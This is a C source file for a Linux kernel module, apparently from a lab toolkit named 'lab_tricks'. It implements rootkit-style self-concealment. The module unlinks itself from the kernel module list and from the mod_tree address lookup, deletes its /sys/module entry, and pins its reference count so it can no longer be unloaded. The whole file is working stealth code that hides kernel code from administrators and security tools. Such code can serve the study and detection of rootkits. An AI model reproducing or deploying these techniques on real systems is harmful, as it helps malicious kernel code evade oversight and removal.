// SPDX-License-Identifier: GPL-2.0-only
/* The module hides itself: from the list of modules, from /sys, and from the tree that tells whose an address is. */
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include "tricks.h"

/* Out of the list: /proc/modules, kallsyms and delete_module() lack it. */
static int hide_from_list(struct trick *trick, int number)
{
	struct mutex *module_mutex = kernel_symbol("module_mutex");

	if (!module_mutex)
		return -ENOENT;
	/* Hidden already, by the other trick of the two. */
	if (list_empty(&THIS_MODULE->list))
		return -EBUSY;
	mutex_lock(module_mutex);
	__list_del_entry(&THIS_MODULE->list);
	mutex_unlock(module_mutex);
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);
	trick->symbol = "modules";
	trick->address = &THIS_MODULE->list;
	trick->target = THIS_MODULE;
	return 0;
}

static void show_in_list(struct trick *trick)
{
	struct mutex *module_mutex = kernel_symbol("module_mutex");

	mutex_lock(module_mutex);
	list_add_rcu(&THIS_MODULE->list, kernel_symbol("modules"));
	mutex_unlock(module_mutex);
}

/* Calls one of the functions that keep the tree of modules' addresses, mod_tree_insert or mod_tree_remove. */
static int change_tree(const char *function)
{
	struct mutex *module_mutex = kernel_symbol("module_mutex");
	void (*change)(struct module *mod) = kernel_symbol(function);

	if (!module_mutex || !change)
		return -ENOENT;
	mutex_lock(module_mutex);
	change(THIS_MODULE);
	mutex_unlock(module_mutex);
	return 0;
}

/* Out of everything: /sys/module lacks it too, and of no address the kernel says that it is in a module. */
static int hide_everywhere(struct trick *trick, int number)
{
	int error = hide_from_list(trick, number);

	if (error)
		return error;
	error = change_tree("mod_tree_remove");
	if (error) {
		show_in_list(trick);
		return error;
	}
	/* What /sys has of it can't be made whole again, so that it can't be unloaded from now on. */
	__module_get(THIS_MODULE);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

static void show_everywhere(struct trick *trick)
{
	if (kobject_add(&THIS_MODULE->mkobj.kobj, NULL, "%s", THIS_MODULE->name))
		pr_err("lab_tricks: it stays hidden from /sys\n");
	change_tree("mod_tree_insert");
	show_in_list(trick);
}

struct trick module_tricks[] = {
	{ .name = "hide-module", .start = hide_from_list, .stop = show_in_list },
	{ .name = "hide-module-everywhere", .start = hide_everywhere, .stop = show_everywhere },
	{}
};
